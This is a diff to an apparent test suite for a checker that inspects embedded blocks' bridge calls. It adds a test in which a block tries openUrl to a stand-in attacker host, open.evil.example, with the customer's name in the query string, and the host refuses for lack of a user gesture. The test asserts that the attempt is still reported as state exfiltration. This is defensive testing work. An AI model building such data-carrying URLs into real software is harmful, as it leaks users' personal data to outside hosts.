@@ -132,6 +132,22 @@ def test_bridge_calls_are_reported_as_plain_json_with_the_paths_they_carry():
     assert write.message == """setValue('customer.name', ["a", {"b": 1}])"""
 
 
+def test_an_open_url_the_host_refused_for_want_of_the_users_activation_is_still_what_the_block_asked():
+    """On a loaded machine the user's activation can end before the block's click reaches the host
+    (WebKitGTK, the corpus's first pass): the host refuses with no-gesture; the block asked all the same."""
+    leak = f"https://open.evil.example/d?n={NAME.replace(' ', '%20')}"
+    refusal = {"level": "warn", "code": "no-gesture", "message": "openUrl needs a user gesture in this block: ...",
+               "detail": {"url": leak}}
+    raw = dict(CONNECTED, log=[refusal, dict(refusal, detail={})], urls=[{"url": "https://help.example.com/a"}])
+    result = judge(work(), {"webkit": observe("webkit", host=HostReport.of(raw))})
+    assert result.bridge == [{"engine": "webkit", "type": "openUrl", "url": "https://help.example.com/a"},
+                             {"engine": "webkit", "type": "openUrl", "url": leak, "refused": "no-gesture"}]
+    opens = sorted(f.message for f in result.findings if f.rule == "bridge.open-url")
+    assert opens == ["openUrl to help.example.com", "openUrl to open.evil.example"]
+    exfil = [f for f in result.findings if f.rule == "exfil.state-to-url" and "open.evil.example" in f.hosts]
+    assert exfil and exfil[0].paths == ["customer.name"], result.findings
+
+
 def test_a_block_that_never_connected_and_a_stalled_host_page():
     never = dict(CONNECTED, status="not-connected", connected="not connected within 5 s", errors=["mount: x"])
     result = judge(work(), {"chromium": observe(host=HostReport.of(never))})
